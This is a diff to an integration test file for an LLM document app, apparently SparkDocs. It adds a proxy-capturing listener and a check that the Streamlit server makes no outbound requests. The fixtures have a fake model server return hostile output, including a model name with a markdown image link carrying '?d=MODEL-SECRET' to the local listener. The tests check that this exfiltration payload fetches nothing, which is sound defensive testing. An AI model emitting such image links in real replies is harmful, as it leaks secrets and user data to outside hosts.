@@ -42,6 +42,11 @@ class Listener:
 
             def do_GET(self) -> None:  # noqa: N802
                 listener.requests.append(f"GET {self.path}")
+                if not self.path.startswith("/"):  # a proxied request: refuse it plainly
+                    self.send_response(404)
+                    self.send_header("Content-Length", "0")
+                    self.end_headers()
+                    return
                 self.send_response(200)
                 self.send_header("Content-Type", "image/gif")
                 self.send_header("Content-Length", str(len(Listener.GIF)))
@@ -50,6 +55,12 @@ class Listener:
 
             do_POST = do_GET  # noqa: N815
 
+            def do_CONNECT(self) -> None:  # noqa: N802  # HTTPS through a proxy
+                listener.requests.append(f"CONNECT {self.path}")
+                self.send_response(403)
+                self.send_header("Content-Length", "0")
+                self.end_headers()
+
         self._server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
         self._server.daemon_threads = True
         self.port = self._server.server_address[1]
@@ -57,6 +68,14 @@ class Listener:
 
     def url(self, path: str) -> str:
         return f"http://127.0.0.1:{self.port}{path}"
+
+    def as_proxy(self) -> dict[str, str]:
+        """Environment that sends a process's outbound HTTP(S) to this listener (requests,
+        httpx and urllib all honour it), the app's own loopback traffic excepted."""
+        proxy = f"http://127.0.0.1:{self.port}"
+        return {"HTTP_PROXY": proxy, "HTTPS_PROXY": proxy, "http_proxy": proxy,
+                "https_proxy": proxy, "NO_PROXY": "127.0.0.1,localhost",
+                "no_proxy": "127.0.0.1,localhost"}
 
     def __enter__(self) -> "Listener":
         self._thread.start()
@@ -109,7 +128,8 @@ def hostile_app(listener: Listener, tmp_path: Path) -> Iterator[str]:
     with FakeServer() as server:
         server.behaviour.answer = "The term is thirty days. " + _hostile(listener, "ANSWER")
         server.behaviour.token_delay_s = 0.02
-        url, process, log = _start_app(server.base_url, tmp_path, SPARKDOCS_ANSWER_TOKENS="200")
+        url, process, log = _start_app(server.base_url, tmp_path, SPARKDOCS_ANSWER_TOKENS="200",
+                                       **listener.as_proxy())  # the server's own requests too
         try:
             yield url
         finally:
@@ -194,7 +214,8 @@ def hostile_server_app(listener: Listener, tmp_path: Path) -> Iterator[str]:
     with FakeServer() as server:
         server.behaviour.model = "evil ![m](" + listener.url("/model.png?d=MODEL-SECRET") + ")"
         url, process, log = _start_app(server.base_url, tmp_path,
-                                       SPARKDOCS_MODEL="nvidia/Llama-3.3-70B-Instruct-FP8")
+                                       SPARKDOCS_MODEL="nvidia/Llama-3.3-70B-Instruct-FP8",
+                                       **listener.as_proxy())
         try:
             yield url
         finally:
@@ -226,6 +247,47 @@ def test_hostile_server_messages_fetch_nothing(hostile_server_app, listener, art
     assert listener.requests == [], sorted(set(listener.requests))
     assert foreign == [], sorted(set(foreign))
     assert model_links >= 2  # the metric and the warning show the name, its image as a link
+
+
+@pytest.mark.integration
+def test_server_makes_no_outbound_request_as_in_the_container(listener, tmp_path):
+    """Started as the Docker image starts it (all interfaces, headless), Streamlit would look up
+    the machine's public address over HTTP for its start-up banner; the config turns that off.
+    Every outbound HTTP(S) request of the server process goes to the listener as its proxy."""
+    import os
+    import subprocess
+    import sys
+    import time
+
+    import httpx
+
+    from sparkdocs.local_model import free_port
+
+    port = free_port()
+    env = {**os.environ, **listener.as_proxy(), "SPARKDOCS_CACHE_DIR": str(tmp_path / "cache"),
+           "SPARKDOCS_BASE_URL": "http://127.0.0.1:9/v1"}
+    root = Path(__file__).resolve().parent.parent
+    with (tmp_path / "streamlit.log").open("wb") as log:
+        process = subprocess.Popen(
+            [sys.executable, "-m", "streamlit", "run", str(root / "app.py"), "--server.port",
+             str(port), "--server.address", "0.0.0.0", "--server.headless", "true"],
+            cwd=root, env=env, stdout=log, stderr=subprocess.STDOUT)
+        try:
+            deadline = time.monotonic() + 60
+            while time.monotonic() < deadline:
+                try:
+                    if httpx.get(f"http://127.0.0.1:{port}/_stcore/health", timeout=1,
+                                 trust_env=False).status_code == 200:
+                        break
+                except httpx.HTTPError:
+                    time.sleep(0.3)
+            else:
+                pytest.fail("streamlit did not start: " + (tmp_path / "streamlit.log").read_text())
+            time.sleep(2)  # the banner is printed just after the server starts listening
+        finally:
+            process.terminate()
+            process.wait(timeout=20)
+    assert listener.requests == [], sorted(set(listener.requests))
 
 
 # --------------------------------------------------------------------------------------------
